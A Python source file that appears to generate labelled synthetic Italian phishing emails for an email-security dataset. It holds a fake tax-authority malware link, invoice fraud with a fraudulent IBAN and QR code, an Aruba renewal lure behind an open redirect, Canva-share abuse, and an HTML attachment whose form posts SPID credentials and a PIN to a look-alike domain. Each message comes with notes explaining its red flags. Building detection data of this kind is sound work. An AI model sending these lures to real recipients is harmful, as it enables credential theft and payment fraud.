"""Attack messages 17-21 (Italian)."""
import datetime as _dt

import docs
from company import FERRETTI as FT, BRIANZA as EB, OFFICES, who
from idcheck import it_iban, group4
from mime import plain, html, alt, mixed, related, attachment, inline_image, Leaf
from mk import ol_html, ol_paras, ol_quote, ol_sent, esc, para_html
from spec import message
from systems import Aruba, Exim, Ses, Direct
from util import fmt_date, rhex, ralnum, rdigits, ruuid

PIVA = OFFICES['IT']['ids'][0][1]


# ------------------------------------------------------------------------------------------------ 17
@message('attack', 17, 'it', 'agenzia-entrate-irregolarita-zip')
def a17(s):
    s.sent('2026-10-14 11:38:20', 'IT')
    s.frm = ('Agenzia delle Entrate', 'segreteria@studiorinaldicommercialisti.it')
    s.to = [who('luca.ferraro')]
    s.subject = 'Agenzia delle Entrate - Comunicazione di irregolarità n. 2026/INT/0048211 - P.IVA %s' % PIVA[2:]
    url = ('https://www.agriturismo-valtrebbia.it/wp-content/uploads/2026/10/'
           'Comunicazione_irregolarita_%s_2026INT0048211.zip' % PIVA[2:])
    text = ("AGENZIA DELLE ENTRATE\nDirezione Provinciale di Milano - Ufficio Controlli\n\n"
            "Spett.le EXAMPLE CAVI ITALIA S.R.L.\nP.IVA %s\n\n"
            "Oggetto: Comunicazione di irregolarità ai sensi dell'art. 54-bis del D.P.R. 633/1972 - "
            "Dichiarazione IVA 2026 (periodo d'imposta 2025)\n\n"
            "Dal controllo automatizzato della dichiarazione IVA presentata sono emerse differenze tra l'imposta "
            "dichiarata e i versamenti effettuati con modello F24, per un importo complessivo di euro 18.442,17 "
            "comprensivo di sanzioni e interessi.\n\n"
            "La comunicazione completa, con il dettaglio degli importi e il modello F24 precompilato, è consultabile "
            "al seguente indirizzo fino al 13/11/2026:\n%s\n\n"
            "Entro 30 giorni dal ricevimento della presente può regolarizzare la posizione con sanzione ridotta "
            "oppure segnalare eventuali elementi non considerati tramite il servizio CIVIS.\n\n"
            "Cordiali saluti\n\nIl Capo Ufficio\nDott.ssa Marina Colasanti\n\n"
            "Questo messaggio è stato inviato automaticamente. Si prega di non rispondere.\n" % (PIVA[2:], url))
    h = ('<div style="font-family:Arial,sans-serif;font-size:13px;color:#111">'
         '<p style="color:#0066cc;font-size:16px;font-weight:bold">AGENZIA DELLE ENTRATE</p>'
         + para_html(text.split('\n\n', 1)[1].replace(url, 'LINKURL'), style='margin:0 0 10px 0').replace(
             'LINKURL', '<a href="%s">Visualizza la comunicazione (PDF)</a>' % esc(url)) + '</div>\n')
    s.body = alt(plain(text, 'UTF-8', 'quoted-printable', label='UTF-8'), html(h, 'UTF-8', 'quoted-printable', label='UTF-8'))
    s.system = Aruba(client='webmail')
    s.what = 'Notice "Comunicazione di irregolarità" from the Agenzia delle Entrate claiming 18.442,17 EUR of unpaid VAT, with a link to the "full communication".'
    s.why = 'Tax-authority impersonation delivering malware: display name "Agenzia delle Entrate" on a compromised accountant\'s Aruba mailbox, link to a ZIP on a hacked WordPress site; the Agency never sends notices with download links to ordinary mailboxes.'


# ------------------------------------------------------------------------------------------------ 18
@message('attack', 18, 'it', 'ferretti-lookalike-fattura-fermo-mezzo')
def a18(s):
    s.sent('2026-11-11 09:12:47', 'IT')
    s.frm = ('Amministrazione - Ferretti Trasporti', 'amministrazione@ferrettitrasporti.it')
    s.to = [who('luca.ferraro')]
    s.cc = [who('giulia.marchetti')]
    s.subject = 'Fattura n. 2026/FT/1187 - sosta e fermo mezzo 28/10 - Paderno Dugnano'
    fraud = it_iban('03268', '22300', '052879341180')
    s.phones = ['+39 045 861 4402']
    text = ("Buongiorno,\n\nin allegato la fattura n. 2026/FT/1187 relativa ai costi di sosta e fermo mezzo del "
            "28/10/2026 presso il Vostro stabilimento di Paderno Dugnano (attesa allo scarico di 7,5 ore oltre la "
            "franchigia contrattuale, bilico targato GF 418 KX), come da segnalazione dell'autista e CMR allegato.\n\n"
            "Trattandosi di servizio accessorio, l'importo va corrisposto sul conto dedicato indicato in fattura "
            "entro 5 giorni dal ricevimento, per poterlo chiudere con la liquidazione di novembre. Per comodità trovate "
            "anche il QR code per il bonifico.\n\n"
            "Vi chiediamo cortesemente conferma dell'avvenuto pagamento a questo indirizzo.\n\n"
            "Cordiali saluti\n\nUfficio Amministrazione\nFerretti Trasporti S.p.A.\n"
            "Via del Lavoro 41 - 37137 Verona (VR)\nTel. +39 045 861 4402\n")
    pdfb = docs.document(
        s, seller=dict(name='Ferretti Trasporti S.p.A.', tagline=['Autotrasporti nazionali e internazionali · Interporto Quadrante Europa'],
                       lines=['Via del Lavoro 41', '37137 Verona (VR)', 'P.IVA ' + FT['piva'][2:], 'Tel. +39 045 861 4400']),
        buyer_lines=['Spett.le', 'EXAMPLE CAVI ITALIA S.R.L.', "Via dell'Industria 18", '20037 Paderno Dugnano (MI)', 'P.IVA ' + PIVA[2:]],
        title='FATTURA N. 2026/FT/1187',
        meta=[('Data documento', '10/11/2026'), ('Cod. cliente', 'C04471'), ('Pagamento', 'Bonifico 5 gg d.r.f.'),
              ('Rif. viaggio', 'VR-MI 28/10/2026')],
        columns=[('Descrizione', 285, 'l'), ('Q.tà', 50, 'r'), ('Prezzo', 80, 'r'), ('Importo', 80, 'r')],
        rows=[['Sosta / fermo mezzo oltre franchigia (2 h) - scarico bobine, Paderno Dugnano 28/10/2026', '7,5 h', '95,00', '712,50'],
              ['Diritto fisso gestione pratica fermo', '1', '45,00', '45,00'],
              ['Riconsegna pallet e bobine vuote non programmata', '1', '760,00', '760,00']],
        totals=[('Imponibile', '1.517,50', False), ('IVA 22%', '333,85', False), ('Totale documento EUR', '1.851,35', True)],
        notes=['Pagamento tramite bonifico bancario sul conto dedicato ai servizi accessori: IBAN %s - BIC SELBIT2BXXX - '
               'Banca Sella S.p.A. Causale: FT 2026/FT/1187.' % group4(fraud),
               'Documento trasmesso anche al Sistema di Interscambio.'],
        qr=(docs.epc_qr('SELBIT2BXXX', 'Ferretti Trasporti SpA', fraud, 1851.35, 'FT 2026/FT/1187'), 'Paga con QR\n(EPC)'),
        footer=['Ferretti Trasporti S.p.A. · Cap. soc. 1.200.000 i.v. · REA VR-248311 · P.IVA ' + FT['piva'][2:]],
        producer='Microsoft: Print To PDF', creator='', author='', lang='it-IT', color=(0.05, 0.3, 0.55))
    s.body = mixed(alt(plain(text, 'windows-1252', 'quoted-printable'),
                       html(ol_html(ol_paras(text), 'windows-1252', 'IT'), 'windows-1252', 'quoted-printable')),
                   attachment('application/pdf', pdfb, 'Fattura_2026_FT_1187.pdf'))
    s.system = Aruba(client='outlook', dkim_domain='aruba.it')
    s.what = 'Invoice from the carrier\'s "administration" for 7,5 h of truck waiting time and extra charges (1.851,35 EUR) payable within 5 days to a "dedicated account", with EPC QR code.'
    s.why = 'Invoice fraud from look-alike domain ferrettitrasporti.it (hyphen dropped; the real carrier is on Microsoft 365, not Aruba); fabricated accessorial charges, short deadline, IBAN at Banca Sella differs from Ferretti\'s UniCredit account.'


# ------------------------------------------------------------------------------------------------ 19
@message('attack', 19, 'it', 'aruba-pec-scadenza-phpmailer')
def a19(s):
    s.sent('2026-11-20 18:04:11', 'IT')
    s.frm = ('Aruba.it', 'noreply@studiodentisticoferri.it')
    s.reply_to = [('Aruba.it Assistenza', 'assistenza.pec@aruba-rinnovi.it')]
    s.to = [who('giulia.marchetti')]
    s.subject = 'Servizio PEC examplecaviitalia@pec.it in scadenza il 26/11/2026 - rinnovo non riuscito'
    s.php_host = 'studiodentisticoferri.it'
    target = 'https://aruba-pec-rinnovo.pages.dev/login?m=examplecaviitalia%40pec.it'
    url = 'https://www.google.com/url?q=https%3A%2F%2Faruba-pec-rinnovo.pages.dev%2Flogin%3Fm%3Dexamplecaviitalia%2540pec.it&sa=D&sntz=1&usg=AOvVaw2kXq7ZT9c1nR4mHjL0pQ3s'
    text = ("Gentile Cliente,\n\nil rinnovo automatico della casella PEC examplecaviitalia@pec.it (ordine "
            "MI-PEC-4471982) non è andato a buon fine: il metodo di pagamento associato risulta scaduto.\n\n"
            "Il servizio scade il 26/11/2026. Dopo tale data la casella sarà sospesa e i messaggi ricevuti non "
            "avranno più valore legale; trascorsi 30 giorni i dati verranno cancellati definitivamente.\n\n"
            "Per evitare l'interruzione, accedi all'Area Clienti e aggiorna il metodo di pagamento (importo "
            "annuale 8,90 EUR + IVA):\n\n%s\n\nGrazie per aver scelto Aruba.\n\nAruba S.p.A. - Via San Clemente 53, "
            "24036 Ponte San Pietro (BG) - P.IVA 01573850516\n" % url)
    h = ('<html><body style="margin:0;background:#f2f2f2"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">'
         '<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,sans-serif;font-size:14px;color:#333">'
         '<tr><td style="background:#ff7500;padding:18px 24px;color:#fff;font-size:22px;font-weight:bold">Aruba.it</td></tr>'
         '<tr><td style="padding:24px">'
         '<p>Gentile Cliente,</p><p>il rinnovo automatico della casella PEC <b>examplecaviitalia@pec.it</b> (ordine MI-PEC-4471982) '
         'non è andato a buon fine: il metodo di pagamento associato risulta scaduto.</p>'
         '<p>Il servizio scade il <b>26/11/2026</b>. Dopo tale data la casella sarà sospesa e i messaggi ricevuti non avranno più valore legale; '
         'trascorsi 30 giorni i dati verranno cancellati definitivamente.</p>'
         '<p style="text-align:center"><a href="' + esc(url) + '" style="background:#ff7500;color:#fff;padding:12px 30px;text-decoration:none;border-radius:3px;font-weight:bold">RINNOVA ORA</a></p>'
         '<p style="font-size:12px;color:#777">Importo annuale 8,90 EUR + IVA.</p><p>Grazie per aver scelto Aruba.</p></td></tr>'
         '<tr><td style="padding:14px 24px;font-size:11px;color:#999;border-top:1px solid #eee">Aruba S.p.A. - Via San Clemente 53, 24036 Ponte San Pietro (BG) - P.IVA 01573850516</td></tr>'
         '</table></td></tr></table></body></html>\n')
    s.notes = [target]
    s.body = alt(plain(text, 'utf-8', 'quoted-printable'), html(h, 'utf-8', 'quoted-printable'))
    s.system = Exim('web17.hostingsolutions-it.net', '198.51.100.61', mode='script', client='php', zone='IT',
                    user='ferridentalw', script_path='/home/ferridentalw/public_html/wp-content/plugins/wp-mail-smtp-pro/cache/.sys.php',
                    desc='compromised WordPress site (PHPMailer) on shared cPanel hosting web17.hostingsolutions-it.net [198.51.100.61]')
    s.what = 'Aruba notice that the renewal of the Italian office\'s PEC mailbox failed and the service will be suspended on 26/11.'
    s.why = 'Webmail/PEC credential and card phishing: sent by a PHP script on a hacked dental-practice website (PHPMailer), display name "Aruba.it" with a foreign Reply-To, link hidden behind a Google open redirect to a Cloudflare Pages site; compare the genuine Aruba notice in business/19.'


# ------------------------------------------------------------------------------------------------ 20
@message('attack', 20, 'it', 'canva-design-condiviso-abuso')
def a20(s):
    s.sent('2026-12-01 10:26:33', 'IT')
    s.frm = ('Canva', 'no-reply@canva.com')
    s.to = [who('giulia.marchetti')]
    s.subject = 'Roberto Galli ha condiviso un design con te: ORDINE 4417 - documentazione e pagamento'
    did = 'DAG' + ralnum(s.rng, 8)
    url = 'https://www.canva.com/design/%s/%s/view?utm_content=%s&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId=%s' % (
        did, ralnum(s.rng, 22), did, rhex(s.rng, 10))
    text = ("Roberto Galli (roberto.galli.ordini@libero.it) ti ha invitato a visualizzare un design.\n\n"
            "ORDINE 4417 - documentazione e pagamento\n\n"
            "\"Buongiorno, come anticipato telefonicamente trovate qui l'ordine 4417 (FG16OR16 e FS17) con le nuove "
            "coordinate per l'accredito delle note di credito. Saluti, Roberto\"\n\nApri design: %s\n\n"
            "Hai ricevuto questa email perché Roberto Galli ha condiviso un design con te su Canva.\n"
            "Canva Pty Ltd, 110 Kippax Street, Surry Hills NSW 2010, Australia\n" % url)
    h = ('<!DOCTYPE html><html lang="it"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>'
         '<body style="margin:0;background:#f4f4f6"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 0">'
         '<table role="presentation" width="520" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px;font-family:Helvetica,Arial,sans-serif;color:#0e1318">'
         '<tr><td style="padding:28px 32px 0"><img src="https://static.canva.com/emails/canva-logo-2x.png" width="86" alt="Canva"></td></tr>'
         '<tr><td style="padding:20px 32px"><p style="font-size:20px;font-weight:bold">Roberto Galli ti ha invitato a visualizzare un design</p>'
         '<p style="font-size:15px;background:#f2f3f5;padding:14px;border-radius:6px">ORDINE 4417 - documentazione e pagamento</p>'
         '<p style="font-size:14px;color:#444">&ldquo;Buongiorno, come anticipato telefonicamente trovate qui l&#39;ordine 4417 (FG16OR16 e FS17) con le nuove coordinate per l&#39;accredito delle note di credito. Saluti, Roberto&rdquo;</p>'
         '<p><a href="' + esc(url) + '" style="display:inline-block;background:#8b3dff;color:#fff;padding:12px 24px;border-radius:6px;text-decoration:none;font-weight:bold">Apri design</a></p></td></tr>'
         '<tr><td style="padding:16px 32px 28px;font-size:12px;color:#6b7280">Hai ricevuto questa email perché Roberto Galli (roberto.galli.ordini@libero.it) ha condiviso un design con te su Canva.<br>'
         'Canva Pty Ltd, 110 Kippax Street, Surry Hills NSW 2010, Australia</td></tr></table></td></tr></table></body></html>\n')
    s.body = alt(plain(text, 'UTF-8', 'quoted-printable', label='UTF-8'), html(h, 'UTF-8', 'quoted-printable', label='UTF-8'))
    s.system = Ses(region='us-east-1', mail_from='bounces@mail.canva.com', dkim_domain='canva.com', style='hexb',
                   desc='Canva notifications via Amazon SES us-east-1, DKIM d=canva.com + amazonses.com')
    s.what = 'Genuine Canva share notification: "Roberto Galli" (name of the buyer at customer Elettroimpianti Brianza) shares a design "ORDINE 4417 - documentazione e pagamento".'
    s.why = 'Abuse of a real platform: Canva and SES authentication pass; the design was created by a free-mail account (libero.it) impersonating the customer and contains a link to a credential/payment-change page; the customer really e-mails orders from its own domain (business/20).'


# ------------------------------------------------------------------------------------------------ 21
@message('attack', 21, 'it', 'sdi-notifica-scarto-html-spid')
def a21(s):
    s.sent('2026-12-09 07:48:02', 'IT')
    s.frm = ('FatturaPA - Sistema di Interscambio', 'notifiche@sdi-fatturapa.it')
    s.to = [who('luca.ferraro')]
    idsdi = '14577209833'
    s.subject = 'Notifica di scarto - file %s_0A7F2.xml.p7m - Identificativo SdI %s' % (PIVA, idsdi)
    action = 'https://sdi-fatturapa-notifiche.com/spid/sso/login'
    lure = ('<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Notifica di scarto %s</title>'
            '<style>body{font-family:"Titillium Web",Arial,sans-serif;background:#f5f5f0;margin:0}'
            '.top{background:#0066cc;color:#fff;padding:14px 30px;font-size:18px}.box{max-width:560px;margin:40px auto;background:#fff;padding:30px;border:1px solid #ddd}'
            'input{width:95%%;padding:8px;margin:6px 0;border:1px solid #888}button{background:#0066cc;color:#fff;border:none;padding:10px 26px}'
            'table{border-collapse:collapse;font-size:13px}td{border:1px solid #ccc;padding:4px 8px}</style></head><body>'
            '<div class="top">Agenzia delle Entrate &middot; Fatture e Corrispettivi</div><div class="box">'
            '<h3>Notifica di scarto</h3><table><tr><td>Identificativo SdI</td><td>%s</td></tr>'
            '<tr><td>Nome file</td><td>%s_0A7F2.xml.p7m</td></tr><tr><td>Codice errore</td><td>00404 - Fattura duplicata</td></tr></table>'
            '<p>Per visualizzare il dettaglio della notifica e il file scartato è necessario autenticarsi con SPID o credenziali Entratel.</p>'
            '<form method="post" action="%s"><input name="cf" placeholder="Codice fiscale / Nome utente">'
            '<input name="pwd" type="password" placeholder="Password"><input name="pin" type="password" placeholder="PIN">'
            '<button type="submit">Entra con SPID</button></form></div></body></html>\n' % (idsdi, idsdi, PIVA, action))
    text = ("Gentile utente,\n\nil Sistema di Interscambio ha scartato il file %s_0A7F2.xml.p7m "
            "(identificativo SdI %s) per il seguente motivo: 00404 - Fattura duplicata.\n\n"
            "In allegato la ricevuta di scarto. Si ricorda che la fattura scartata si considera non emessa: "
            "occorre ritrasmetterla entro 5 giorni dalla data della notifica.\n\n"
            "Questo è un messaggio automatico, si prega di non rispondere.\nSistema di Interscambio - FatturaPA\n" % (PIVA, idsdi))
    s.body = mixed(plain(text, 'iso-8859-1', 'quoted-printable'),
                   Leaf('text/html', lure, charset='utf-8', cte='base64', name='Notifica_scarto_%s.html' % idsdi,
                        disposition='attachment'))
    s.system = Exim('mail.sdi-fatturapa.it', '192.0.2.88', mode='script', client='php', zone='IT', user='sdinotif',
                    script_path='/home/sdinotif/public_html/send.php', helo='mail.sdi-fatturapa.it',
                    desc='attacker VPS with cPanel/Exim and PHPMailer (mail.sdi-fatturapa.it [192.0.2.88])')
    s.what = '"Notifica di scarto" from the SdI e-invoicing exchange for a duplicated invoice, with the receipt as HTML attachment.'
    s.why = 'HTML-attachment phishing for SPID/Entratel credentials (form posts to sdi-fatturapa-notifiche.com); SdI notifications arrive via PEC/the intermediary as XML, never as HTML asking for credentials; look-alike domain sdi-fatturapa.it.'
